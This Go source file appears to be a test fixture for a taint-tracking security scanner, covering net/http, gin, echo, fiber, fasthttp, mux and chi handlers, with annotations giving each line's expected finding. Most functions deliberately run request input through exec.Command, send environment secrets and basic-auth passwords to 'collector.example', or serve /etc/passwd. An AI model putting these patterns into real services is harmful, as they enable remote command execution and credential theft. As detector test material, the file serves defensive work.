// Servers: what a request brings in, and what an answer hands out. net/http, gin, echo, fiber, fasthttp, gorilla/mux, chi.
package models

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"text/template"
	"time"

	"github.com/gin-gonic/gin"
	"github.com/go-chi/chi/v5"
	"github.com/gofiber/fiber/v2"
	"github.com/gorilla/mux"
	"github.com/labstack/echo/v4"
	"github.com/valyala/fasthttp"
)

const U = "https://collector.example/u?"

func requestForm(r *http.Request) {
	exec.Command(r.Form["c"][0]).Run() //~ source(NETWORK) f1, sink(exec.command) f1, finding(traced) f1
}

func requestFormCompared(r *http.Request) {
	exec.Command(strconv.FormatBool(r.RequestURI == "/")).Run() //~ ok
}

func requestBody(r *http.Request) {
	b, _ := io.ReadAll(r.Body) //~ source(NETWORK) f3
	exec.Command(string(b)).Run() //~ sink(exec.command) f3, finding(traced) f3
}

func requestBodyClosed(r *http.Request) {
	err := r.Body.Close() //~ ok
	exec.Command(err.Error()).Run() //~ ok
}

func requestHeader(r *http.Request) {
	exec.Command(r.Header.Get("X-Task")).Run() //~ source(NETWORK) f5, sink(exec.command) f5, finding(traced) f5
}

func requestHeaderCompared(r *http.Request) {
	exec.Command(strconv.FormatBool(r.Header.Get("X-Task") == "1")).Run() //~ ok
}

func requestQuery(r *http.Request) {
	exec.Command(r.URL.Query().Get("c")).Run() //~ source(NETWORK) f7, sink(exec.command) f7, finding(traced) f7
}

func requestedFile(w http.ResponseWriter, r *http.Request) {
	name := r.URL.Query().Get("f") //~ source(NETWORK) f8
	b, _ := os.ReadFile(name) //~ source(FILE) f8b
	w.Write(b) //~ sink(egress.http) f8b, finding(remote-directed-file-collection, traced) f8b
}

func requestPath(r *http.Request) {
	exec.Command(strconv.FormatBool(r.URL.Path == "/")).Run() //~ ok
}

func formValue(r *http.Request) {
	exec.Command(r.FormValue("c")).Run() //~ source(NETWORK) f10, sink(exec.command) f10, finding(traced) f10
}

func formValueCompared(r *http.Request) {
	exec.Command(strconv.FormatBool(r.FormValue("c") == "1")).Run() //~ ok
}

func formFile(r *http.Request) {
	f, _, _ := r.FormFile("f") //~ source(NETWORK) f12
	b, _ := io.ReadAll(f)
	exec.Command(string(b)).Run() //~ sink(exec.command) f12, finding(traced) f12
}

func formFileUnused(r *http.Request) {
	r.FormFile("f") //~ ok
}

func cookie(r *http.Request) {
	one, _ := r.Cookie("c") //~ source(NETWORK) f14
	exec.Command(one.Value).Run() //~ sink(exec.command) f14, finding(traced) f14
}

func cookieUnused(r *http.Request) {
	r.Cookie("c") //~ ok
}

func basicAuth(r *http.Request) {
	_, password, _ := r.BasicAuth() //~ source(CREDENTIAL) f16
	http.Get(U + password) //~ sink(egress.http) f16, finding(traced) f16
}

func basicAuthUnused(r *http.Request) {
	r.BasicAuth() //~ ok
}

func requestContext(r *http.Request) {
	ctx := context.WithValue(r.Context(), "t", os.Getenv("T")) //~ source(ENVIRONMENT) f18
	http.Get(U + ctx.Value("t").(string)) //~ sink(egress.http) f18, finding(traced) f18
}

func requestContextOther(r *http.Request) {
	r.Body = io.NopCloser(strings.NewReader(os.Getenv("T")))
	http.Get(U + fmt.Sprint(r.Context().Value("t"))) //~ ok
}

func answer(w http.ResponseWriter) {
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f20, sink(egress.http) f20, finding(traced) f20, capability(NETWORK)
}

func answerEncoded(w http.ResponseWriter) {
	json.NewEncoder(w).Encode(os.Environ()) //~ source(ENVIRONMENT) f21, sink(egress.http) f21, finding(traced) f21
}

func answerConstant(w http.ResponseWriter) {
	w.Write([]byte("ok")) //~ ok
}

func answerHeader(w http.ResponseWriter) {
	w.Header().Set("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f23, sink(egress.http) f23, finding(traced) f23
}

func answerHeaderConstant(w http.ResponseWriter) {
	w.Header().Set("X-Version", "1") //~ ok
}

func answerHeaderAdded(w http.ResponseWriter) {
	h := w.Header()
	h.Add("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f25, sink(egress.http) f25, finding(traced) f25
}

func answerHeaderAddedConstant(w http.ResponseWriter) {
	w.Header().Add("X-Version", "1") //~ ok
}

func answerStatus(w http.ResponseWriter) {
	w.WriteHeader(os.Getuid()) //~ ok
	http.Get(U + fmt.Sprint(w)) //~ ok
}

func errorAnswer(w http.ResponseWriter) {
	http.Error(w, os.Getenv("T"), 500) //~ source(ENVIRONMENT) f28, sink(egress.http) f28, finding(traced) f28, capability(NETWORK)
}

func errorAnswerConstant(w http.ResponseWriter) {
	http.Error(w, "no", 500) //~ ok
}

func redirect(w http.ResponseWriter, r *http.Request) {
	http.Redirect(w, r, "/?t="+os.Getenv("T"), 302) //~ source(ENVIRONMENT) f30, sink(egress.http) f30, finding(traced) f30, capability(NETWORK)
}

func redirectConstant(w http.ResponseWriter, r *http.Request) {
	http.Redirect(w, r, "/", 302) //~ ok
}

func serveFile(w http.ResponseWriter, r *http.Request) {
	http.ServeFile(w, r, "/etc/passwd") //~ source(FILE) f32, sink(egress.http) f32, finding(traced) f32, capability(NETWORK), capability(FILES)
}

func serveFileNot(w http.ResponseWriter, r *http.Request) {
	handle := http.ServeFile //~ ok
	_ = handle
}

func serveContent(w http.ResponseWriter, r *http.Request) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f34
	http.ServeContent(w, r, "passwd", time.Time{}, f) //~ sink(egress.http) f34, finding(traced) f34, capability(NETWORK)
}

func serveContentConstant(w http.ResponseWriter, r *http.Request) {
	http.ServeContent(w, r, "a", time.Time{}, strings.NewReader("ping")) //~ ok
}

func servedDirectory() {
	os.WriteFile("/srv/t", []byte(os.Getenv("T")), 0o600) //~ source(ENVIRONMENT) f36
	http.FileServer(http.Dir("/srv/t")) //~ source(FILE) f36b, sink(egress.http) f36, finding(traced) f36, sink(egress.http) f36b, finding(traced) f36b
}

func directoryOnly() {
	http.Get(U + string(http.Dir("/srv"))) //~ ok
}

func served() {
	http.FileServer(http.Dir("/srv")) //~ source(FILE) f38, sink(egress.http) f38, finding(traced) f38, capability(NETWORK)
}

func servedNot() {
	serve := http.FileServer //~ ok
	_ = serve
}

func listen() {
	http.ListenAndServe(":80", nil) //~ capability(NETWORK)
}

func listenError() {
	err := http.ListenAndServe(os.Getenv("T"), nil) //~ ok
	http.Get(U + err.Error()) //~ ok
}

func serve(s *http.Server) {
	s.ListenAndServe() //~ capability(NETWORK)
}

func serveError(s *http.Server) {
	s.Addr = os.Getenv("T")
	http.Get(U + s.ListenAndServe().Error()) //~ ok
}

func handled() {
	secret := os.Getenv("T") //~ source(ENVIRONMENT) f44
	http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { //~ capability(NETWORK)
		w.Write([]byte(secret)) //~ sink(egress.http) f44, finding(traced) f44
	})
}

func handledConstant() {
	http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {}) //~ ok
}

func handlerMade() {
	s := http.HandlerFunc(nil)
	http.Get(U + fmt.Sprint(s)) //~ ok
	t := http.HandlerFunc(os.Getenv("T")) //~ source(ENVIRONMENT) f46
	http.Get(U + t) //~ sink(egress.http) f46, finding(traced) f46
}

func handlerConstant() {
	http.HandlerFunc(nil) //~ ok
}

func variables(r *http.Request) {
	exec.Command(mux.Vars(r)["c"]).Run() //~ source(NETWORK) f48, sink(exec.command) f48, finding(traced) f48
}

func variablesCompared(r *http.Request) {
	exec.Command(strconv.FormatBool(mux.Vars(r)["c"] == "1")).Run() //~ ok
}

func parameter(r *http.Request) {
	exec.Command(chi.URLParam(r, "c")).Run() //~ source(NETWORK) f50, sink(exec.command) f50, finding(traced) f50
}

func parameterCompared(r *http.Request) {
	exec.Command(strconv.FormatBool(chi.URLParam(r, "c") == "1")).Run() //~ ok
}

func ginQuery(c *gin.Context) {
	exec.Command(c.Query("c")).Run() //~ source(NETWORK) f52, sink(exec.command) f52, finding(traced) f52
}

func ginQueryCompared(c *gin.Context) {
	exec.Command(strconv.FormatBool(c.Query("c") == "1")).Run() //~ ok
}

func ginRaw(c *gin.Context) {
	b, _ := c.GetRawData() //~ source(NETWORK) f54
	exec.Command(string(b)).Run() //~ sink(exec.command) f54, finding(traced) f54
}

func ginRawUnused(c *gin.Context) {
	c.GetRawData() //~ ok
}

func ginBound(c *gin.Context) {
	var task struct{ Command string }
	c.ShouldBindJSON(&task) //~ source(NETWORK) f56
	exec.Command(task.Command).Run() //~ sink(exec.command) f56, finding(traced) f56
}

func ginBoundUnused(c *gin.Context) {
	var task struct{ Command string }
	c.ShouldBindJSON(&task) //~ ok
}

func ginFormFile(c *gin.Context) {
	header, _ := c.FormFile("f") //~ source(NETWORK) f58
	exec.Command(header.Filename).Run() //~ sink(exec.command) f58, finding(traced) f58
}

func ginFormFileUnused(c *gin.Context) {
	c.FormFile("f") //~ ok
}

func ginRequest(c *gin.Context) {
	exec.Command(c.Request.FormValue("c")).Run() //~ source(NETWORK) f60, sink(exec.command) f60, finding(traced) f60
}

func ginRequestCompared(c *gin.Context) {
	exec.Command(strconv.FormatBool(c.Request.FormValue("c") == "1")).Run() //~ ok
}

func ginWriter(c *gin.Context) {
	c.Writer.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f62, sink(egress.http) f62, finding(traced) f62
}

func ginWriterConstant(c *gin.Context) {
	c.Writer.Write([]byte("ok")) //~ ok
}

func echoRequest(c echo.Context) {
	exec.Command(c.Request().FormValue("c")).Run() //~ source(NETWORK) f64, sink(exec.command) f64, finding(traced) f64
}

func echoRequestCompared(c echo.Context) {
	exec.Command(strconv.FormatBool(c.Request().FormValue("c") == "1")).Run() //~ ok
}

func ginAnswer(c *gin.Context) {
	c.JSON(200, gin.H{"t": os.Getenv("T")}) //~ source(ENVIRONMENT) f66, sink(egress.http) f66, finding(traced) f66, capability(NETWORK)
}

func ginAnswerConstant(c *gin.Context) {
	c.JSON(200, gin.H{"t": "ok"}) //~ ok
}

func fiberAnswer(c *fiber.Ctx) {
	c.SendString(os.Getenv("T")) //~ source(ENVIRONMENT) f68, sink(egress.http) f68, finding(traced) f68, capability(NETWORK)
}

func fiberAnswerConstant(c *fiber.Ctx) {
	c.SendString("ok") //~ ok
}

func ginFile(c *gin.Context) {
	c.File("/etc/passwd") //~ source(FILE) f70, sink(egress.http) f70, finding(traced) f70, capability(NETWORK)
}

func ginFileNamed(c *gin.Context) {
	c.File(c.Query("f")) //~ source(NETWORK) f71, source(FILE) f71b, sink(egress.http) f71b, finding(remote-directed-file-collection, traced) f71b
}

func ginFileNot(c *gin.Context) {
	send := c.File //~ ok
	_ = send
}

func ginSaved(c *gin.Context) {
	f, _ := c.FormFile("f") //~ source(NETWORK) f73
	c.SaveUploadedFile(f, "/tmp/u") //~ sink(file.write) f73, finding(traced) f73, capability(FILE_WRITE)
}

func ginSavedUnused(c *gin.Context) {
	c.SaveUploadedFile(nil, "/tmp/u") //~ ok
}

func ginHeader(c *gin.Context) {
	c.Header("X-Token", os.Getenv("T")) //~ source(ENVIRONMENT) f75, sink(egress.http) f75, finding(traced) f75, capability(NETWORK)
}

func ginHeaderConstant(c *gin.Context) {
	c.Header("X-Version", "1") //~ ok
}

func ginMade() {
	router := gin.Default() //~ capability(NETWORK)
	secret := os.Getenv("T") //~ source(ENVIRONMENT) f77
	router.GET("/", func(c *gin.Context) {
		c.String(200, secret) //~ sink(egress.http) f77, finding(traced) f77
	})
}

func ginMadeConstant() {
	router := gin.Default() //~ ok
	router.GET("/", func(c *gin.Context) { c.String(200, "ok") })
}

func ginRoute(router *gin.Engine) {
	secret := os.Getenv("T") //~ source(ENVIRONMENT) f79
	router.POST("/", func(c *gin.Context) { //~ capability(NETWORK)
		c.String(200, secret) //~ sink(egress.http) f79, finding(traced) f79
	})
}

func ginRouteConstant(router *gin.Engine) {
	router.POST("/", func(c *gin.Context) { c.String(200, "ok") }) //~ ok
}

func ginGroup(router *gin.Engine) {
	router.Group("/v1").GET("/", func(c *gin.Context) { //~ capability(NETWORK)
	})
}

func ginGroupConstant(router *gin.Engine) {
	router.Group("/v1").GET("/", func(c *gin.Context) { c.String(200, "ok") }) //~ ok
}

func fastBody(c *fasthttp.RequestCtx) {
	exec.Command(string(c.PostBody())).Run() //~ source(NETWORK) f83, sink(exec.command) f83, finding(traced) f83
}

func fastBodyCompared(c *fasthttp.RequestCtx) {
	exec.Command(strconv.FormatBool(string(c.PostBody()) == "1")).Run() //~ ok
}

func fastAnswer(c *fasthttp.RequestCtx) {
	c.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f85, sink(egress.http) f85, finding(traced) f85, capability(NETWORK)
}

func fastAnswerConstant(c *fasthttp.RequestCtx) {
	c.WriteString("ok") //~ ok
}

func templated(t *template.Template) {
	var b bytes.Buffer
	t.Execute(&b, os.Environ()) //~ source(ENVIRONMENT) f87
	http.Post(U, "", &b) //~ sink(egress.http) f87, finding(traced) f87
}

func templatedConstant(t *template.Template) {
	var b bytes.Buffer
	t.Execute(&b, "ok") //~ ok
	http.Post(U, "", &b) //~ ok
}

func templatedAnswer(t *template.Template, w http.ResponseWriter) {
	t.Execute(w, os.Environ()) //~ source(ENVIRONMENT) f89, sink(egress.http) f89, finding(traced) f89, capability(NETWORK)
}

func templatedAnswerConstant(t *template.Template, w http.ResponseWriter) {
	t.Execute(w, "ok") //~ ok
}

func templatedNamed(t *template.Template, w http.ResponseWriter) {
	t.ExecuteTemplate(w, "page", os.Environ()) //~ source(ENVIRONMENT) f91, sink(egress.http) f91, finding(traced) f91, capability(NETWORK)
}

func templatedNamedConstant(t *template.Template, w http.ResponseWriter) {
	t.ExecuteTemplate(w, "page", "ok") //~ ok
}

func templatedInto(t *template.Template) {
	var b bytes.Buffer
	t.ExecuteTemplate(&b, "page", os.Environ()) //~ source(ENVIRONMENT) f93
	http.Post(U, "", &b) //~ sink(egress.http) f93, finding(traced) f93
}

func templatedIntoConstant(t *template.Template) {
	var b bytes.Buffer
	t.ExecuteTemplate(&b, "page", "ok") //~ ok
	http.Post(U, "", &b) //~ ok
}

func templateMade() {
	var b bytes.Buffer
	template.Must(template.New("t").Parse("{{.}}")).Execute(&b, os.Environ()) //~ source(ENVIRONMENT) f95
	http.Post(U, "", &b) //~ sink(egress.http) f95, finding(traced) f95
}

func templateMadeConstant() {
	var b bytes.Buffer
	template.Must(template.New("t").Parse("{{.}}")).Execute(&b, "ok") //~ ok
	http.Post(U, "", &b) //~ ok
}

func templateParsed(t *template.Template) {
	var b bytes.Buffer
	t.Funcs(nil).Execute(&b, os.Environ()) //~ source(ENVIRONMENT) f97
	http.Post(U, "", &b) //~ sink(egress.http) f97, finding(traced) f97
}

func templateParsedConstant(t *template.Template) {
	var b bytes.Buffer
	t.Funcs(nil).Execute(&b, "ok") //~ ok
	http.Post(U, "", &b) //~ ok
}

func escaped() {
	http.Get(U + html.EscapeString(os.Getenv("T"))) //~ source(ENVIRONMENT) f99, sink(egress.http) f99, finding(traced) f99
	http.Get(U + html.EscapeString("a")) //~ ok
}
